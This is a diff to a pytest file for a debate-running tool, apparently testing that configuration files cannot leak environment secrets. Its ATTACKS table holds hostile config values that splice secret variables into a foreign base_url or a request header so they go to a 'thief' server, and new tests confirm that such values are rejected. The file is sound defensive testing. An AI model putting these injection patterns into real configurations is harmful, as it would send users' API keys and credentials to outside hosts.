@@ -31,6 +31,7 @@ SECRETS = {
     "OPENAI_API_KEY": KEY,
     "AWS_SECRET_ACCESS_KEY": "canary-of-the-cloud-4711",
     "LAB_KEY": "canary-of-the-lab-4711",
+    "DATABASE_URL": "canary-of-the-database-4711",
 }
 CONFIG = """\
 topic: Cats or dogs?
@@ -49,9 +50,9 @@ ATTACKS = {
         "api_key_env: OPENAI_API_KEY", "api_key_env: LAB_KEY, headers: {x: '${OPENAI_API_KEY}'}"
     ),
     "any variable": f"{{kind: openai, base_url: '{FOREIGN}', api_key_env: LAB_KEY}}",
-    "a secret in the address": f"{{kind: openai, base_url: '{FOREIGN}/${{AWS_SECRET_ACCESS_KEY}}', api_key_env: null}}",
+    "a variable in the address": f"{{kind: openai, base_url: '{FOREIGN}/${{DATABASE_URL}}', api_key_env: null}}",
     "the debate alone": f"{{kind: openai, base_url: '{FOREIGN}', api_key_env: null}}",
-    "a key of the folder and another variable": f"{{kind: openai, base_url: '{FOREIGN}/${{LAB_KEY}}', api_key_env: BESIDE_KEY}}",
+    "a key of the folder and another variable": f"{{kind: openai, base_url: '{FOREIGN}/${{DATABASE_URL}}', api_key_env: BESIDE_KEY}}",
 }
 
 
@@ -175,6 +176,49 @@ def test_no_consent_is_needed_where_the_user_chose(
         "run", "debate.yaml", "-q", *(each.replace("PORT", port) for each in options), cwd=here, env=SECRETS | given
     )
     assert (done.code, bool(thief.bodies)) == (0, True), done.err
+
+
+@pytest.mark.parametrize("key", ["topic", "background"])
+def test_a_text_reads_no_variable_of_the_environment(here: Path, key: str) -> None:
+    """A motion with a password would be sent to models and saved."""
+    write_config(
+        here,
+        INNOCENT.replace("topic: Cats or dogs?", "")
+        + ("" if key == "topic" else "topic: t\n")
+        + f"{key}: '${{DATABASE_URL}}'\n",
+    )
+    done = debate("run", "debate.yaml", "--mock", cwd=here, env=SECRETS)
+    assert (done.code, SECRETS["DATABASE_URL"] in done.out + done.err, list(here.iterdir())) == (
+        2,
+        False,
+        [here / "debate.yaml"],
+    )
+    assert "--var DATABASE_URL=... or DEBATE_VAR_DATABASE_URL" in done.err
+
+
+def test_a_text_takes_what_the_user_gives(here: Path) -> None:
+    """`--var` goes before DEBATE_VAR_NAME, and that before `vars`."""
+    write_config(
+        here, INNOCENT.replace("Cats or dogs?", "'${A} or ${B} or ${C}?'") + "vars: {A: cats, B: dogs, C: birds}\n"
+    )
+    env = {"DEBATE_VAR_A": "dogs", "DEBATE_VAR_B": "fish"}
+    done = debate("run", "debate.yaml", "--mock", "--var", "A=apes", "--id", "x", "-q", cwd=here, env=env)
+    assert done.code == 0, done.err
+    stored = json.loads((here / "transcripts" / "x.json").read_text())
+    assert (stored["topic"], stored["config"]["vars"]) == (
+        "apes or fish or birds?",
+        {"A": "apes", "B": "fish", "C": "birds"},
+    )
+    assert debate("run", "debate.yaml", "--mock", "--var", "A", cwd=here).code == 2
+
+
+def test_a_secret_is_no_part_of_an_address(here: Path, thief: ModelServer) -> None:
+    """Not even with a trusted host: addresses are shown and logged."""
+    address = f"{{kind: openai, base_url: '{FOREIGN}/${{AWS_SECRET_ACCESS_KEY}}', api_key_env: null}}"
+    hostile_config(here, address, thief)
+    done = debate("run", "debate.yaml", "--trust-host", "0.0.0.0", cwd=here, env=SECRETS)
+    assert (done.code, received(thief)) == (2, "[] []")
+    assert "AWS_SECRET_ACCESS_KEY holds a secret, which must not be part of an address" in done.err
 
 
 def hostile_transcript(here: Path, thief: ModelServer) -> Path:
